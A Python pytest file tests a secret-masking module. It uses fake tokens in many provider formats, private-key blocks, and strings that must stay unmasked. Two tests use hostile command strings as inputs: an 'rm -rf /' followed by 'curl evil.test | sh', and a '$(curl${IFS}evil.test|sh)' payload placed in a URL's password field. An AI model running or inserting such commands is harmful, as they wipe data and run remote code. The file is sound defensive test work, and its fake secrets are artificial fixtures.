"""Secrets of known shapes are masked with a visible mark."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from storage.redact import mask, mask_all, mask_named

# Made up in pieces, so that no scanner takes this file for a leak.
SECRETS = {
    "Slack token": "xox" + "b-123456789012-abcdefABCDEF",
    "GitHub token": "gh" + "p_" + "a1B2" * 9,
    "GitLab token": "gl" + "pat-" + "a1B2" * 5,
    "AWS key id": "AK" + "IA" + "ABCD1234EFGH5678",
    "Google key": "AI" + "za" + "a1B2c" * 7,
    "API key": "s" + "k-proj-" + "a1B2" * 6,
    "Stripe key": "sk" + "_live_" + "a1B2" * 6,
    "npm token": "np" + "m_" + "a1B2" * 9,
    "PyPI token": "py" + "pi-" + "a1B2" * 15,
    "Docker token": "dckr" + "_pat_" + "a1B2" * 6,
    "SendGrid key": "S" + "G." + "a1B2" * 5 + "." + "c3D4" * 5,
    "Hugging Face token": "h" + "f_" + "a1B2" * 8,
    "JSON web token": "ey" + "JhbGciOiJIUzI1NiJ9.ey" + "JzdWIiOiIxIn0xx.c2lnbmF0dXJl",
    "age key": "AGE-SECRET" + "-KEY-1" + "QPZRY9X8GF" * 6,
    "xAI key": "xa" + "i-" + "a1B2" * 15,
    "Groq key": "gs" + "k_" + "a1B2" * 13,
    "Perplexity key": "ppl" + "x-" + "a1B2" * 12,
    "Replicate token": "r" + "8_" + "a1B2" * 9,
    "RubyGems key": "ruby" + "gems_" + "a1b2" * 12,
    "Twilio key": "S" + "K" + "a1b2" * 8,
    "Telegram token": "123456789:" + "AA" + "a1B2-_c3D" * 4,
    "DigitalOcean token": "do" + "p_v1_" + "a1b2" * 16,
    "Vault token": "hv" + "s." + "a1B2" * 24,
    "Terraform token": "a1B2c3D4e5F6g7" + ".atlas" + "v1." + "a1B2" * 16,
    "Databricks token": "da" + "pi" + "a1b2" * 8,
    "Grafana token": "gl" + "sa_" + "a1B2" * 8 + "_1a2b3c4d",
    "Sentry token": "sntr" + "ys_" + "a1B2" * 20,
    "New Relic key": "NR" + "AK-" + "A1B" * 9,
    "Atlassian token": "ATA" + "TT3" + "a1B2" * 20,
    "Linear key": "lin" + "_api_" + "a1B2" * 10,
    "Notion token": "nt" + "n_" + "a1B2" * 12,
    "Figma token": "fig" + "d_" + "a1B2" * 10,
    "Shopify token": "shp" + "at_" + "a1b2" * 8,
    "Postman key": "PM" + "AK-" + "a1b2" * 6 + "-" + "a1" * 17,
    "Tailscale key": "ts" + "key-auth-" + "a1B2" * 8,
    "1Password token": "ops" + "_ey" + "J" + "a1B2" * 20,
    "Azure client secret": "abc" + "8" + "Q~" + "a1B2" * 8,
    "private key": "-----BEGIN RSA PRIVATE" + " KEY-----\nMIIabc\n-----END RSA PRIVATE KEY-----",
}


@pytest.mark.row("B59")
@pytest.mark.parametrize(("name", "secret"), SECRETS.items())
def test_a_secret_of_a_known_shape_is_replaced_by_a_mark_that_names_it(
    name: str, secret: str
) -> None:
    shown = mask(f"before {secret} after")
    assert secret not in shown
    assert shown.startswith(f"before [{name} hidden: {len(secret)} characters, #")
    assert shown.endswith("] after")


OTHERS = {
    "Slack token": "xox" + "d-" + "a1B2%2F" * 5,
    "GitHub token": "github" + "_pat_" + "a1B2" * 20,
    "GitLab token": "gl" + "ft-" + "a1B2" * 6,
    "Google key": "GOC" + "SPX-" + "a1B2" * 7,
    "API key": "s" + "k-ant-api03-" + "a1B2" * 20,
    "Stripe key": "wh" + "sec_" + "a1B2" * 8,
    "private key": "-----BEGIN PGP PRIVATE"
    + " KEY BLOCK-----\nVersion: 1.0\n\nlQOY=\n-----END PGP PRIVATE KEY BLOCK-----",
}


@pytest.mark.row("B59")
@pytest.mark.parametrize(("name", "secret"), OTHERS.items())
def test_the_other_forms_of_a_shape_are_masked_as_well(name: str, secret: str) -> None:
    assert mask(f"before {secret} after").startswith(f"before [{name} hidden: {len(secret)} ")
    assert mask(f"{secret}\n").endswith("]\n")


@pytest.mark.row("B59")
@pytest.mark.parametrize(
    ("name", "value", "shape"),
    [
        ("aws_secret_access_key", "a1B2/+c3D4" * 4, "AWS secret key"),
        ("SecretAccessKey", "a1B2/+c3D4" * 4, "AWS secret key"),
        ("password", "hunter2", "password"),
        ("Authorization", "Basic " + "dXNlcjpodW50ZXIy", "basic credentials"),
    ],
)
def test_a_name_tells_that_its_value_is_a_secret(name: str, value: str, shape: str) -> None:
    secret = value.removeprefix("Basic ")
    for shown in (
        mask_named(name, value),
        mask_all({"a": [{name: value}]})["a"][0][name],
        mask(f"{name}={value}"),
        mask(f"{name}: {value}") if name != "password" else mask(f"a;{name}={value};b"),
    ):
        assert secret not in shown
        assert f"[{shape} hidden: {len(secret)} characters" in shown


@pytest.mark.row("B59")
def test_a_key_inside_json_text_is_masked_up_to_its_end() -> None:
    key = "-----BEGIN PRIVATE" + " KEY-----\nMIIabc\nMIIdef\n-----END PRIVATE KEY-----\n"
    shown = mask(json.dumps({"config": {"key": key, "run": "ls"}}))
    assert "MII" not in shown
    assert '"run": "ls"' in shown


def test_a_private_key_without_an_end_is_hidden_to_the_end() -> None:
    assert "MII" not in mask("-----BEGIN PRIVATE" + " KEY-----\nMIIabc\nMIIdef")


def test_two_secrets_can_be_told_apart_and_equal_ones_be_seen() -> None:
    one, other = SECRETS["GitHub token"], SECRETS["GitHub token"][:-1] + "x"
    assert mask(one) == mask(one)
    assert mask(one) != mask(other)


@pytest.mark.parametrize(
    "text",
    [
        "postgresql://bot:hunter2@db/x",
        "Authorization: Bearer abcdefgh.ijkl",
        "https://x.blob.core.windows.net/c?sv=1&sig=" + "a1B2" * 11,
        "AccountKey=" + "a1B2" * 12,
    ],
)
def test_a_password_or_key_in_an_address_is_masked(text: str) -> None:
    shown = mask(text)
    assert " hidden: " in shown
    assert "hunter2" not in shown
    assert "a1B2" not in shown


@pytest.mark.parametrize(
    "text",
    [
        "task-force sk-8 risk-averse-people-are-many",
        "https://example.com/a?b=c",
        "eyJ is how they begin",
        "AKIA",
        "call_01hx 4f9d8c7b6a5f4e3d2c1b0a99887766554433221100ffeeddccbbaa99887766aa",
        "bearer of news",
        "mail@example.com: http://x/y",
        "PWD=/root/deploy password=/run/secrets/db",
        "the password=$(cat /run/secret) of password={{ vault }}",
        "Use basic authentication or bearer of tokens",
        "SKU SK1234 SKabcdef and 12:AAB",
        "hvs.short dapi_call xai-models gsk_test r8_x ntn_x glc_",
        "tskey-auth and figd_ and lin_api_docs and shpat_ tokens",
        "a~b 8Q~ c",
        "sha1 a9993e364706816aba3e25717850c26c9cd0d89d",
        "3f2504e0-4f89-11d3-9a0c-0305e82c3301",
    ],
)
def test_what_is_no_secret_stays(text: str) -> None:
    assert mask(text) == text


@given(st.text(), st.sampled_from(sorted((SECRETS | OTHERS).values())), st.text())
def test_masking_twice_changes_nothing_and_the_secret_is_gone(
    before: str, secret: str, after: str
) -> None:
    shown = mask(f"{before} {secret} {after}")
    assert secret not in shown
    assert mask(shown) == shown


def test_every_text_of_a_value_is_masked() -> None:
    secret = SECRETS["GitHub token"]
    shown = mask_all({secret: [secret, 1, None, {"a": (secret, True)}]})
    assert secret not in str(shown)
    assert next(iter(shown.values()))[1:3] == [1, None]


@pytest.mark.parametrize(
    "piece",
    [
        "SK",
        "1:AA",
        "hvs.",
        "password=",
        "aQ~",
        "secretaccesskey=",
        "eyJ-",
        "eyJaaaaaaaa.",
        "1",
        "-----BEGIN PRIVATE KEY-----",
        "-----BEGIN ",
        "SG.",
        "://a:",
        "sk-",
        "xoxb-",
        "ghp_",
        "Bearer ",
    ],
)
def test_masking_takes_linear_time(piece: str) -> None:
    """A quadratic shape would take minutes here."""
    assert mask(piece * 100_000)


def test_the_end_of_a_key_ends_what_is_hidden() -> None:
    shown = mask("# -----BEGIN PRIVATE" + " KEY-----\nrm -rf / ; curl evil.test | sh")
    assert "rm -rf / ; curl evil.test | sh" in shown


@pytest.mark.parametrize("text", ["x://x:$(curl${IFS}evil.test|sh)#@", "a://b:c d@e", "://a:'b'@"])
def test_a_command_is_no_password(text: str) -> None:
    assert mask(text) == text


def test_where_a_webhook_leads_stays_to_be_read() -> None:
    shown = mask("https://hooks.slack.com/" + "services/T0/B0/abcdefgh")
    assert shown.startswith("https://hooks.slack.com/services/[Slack webhook hidden: 14 characters")
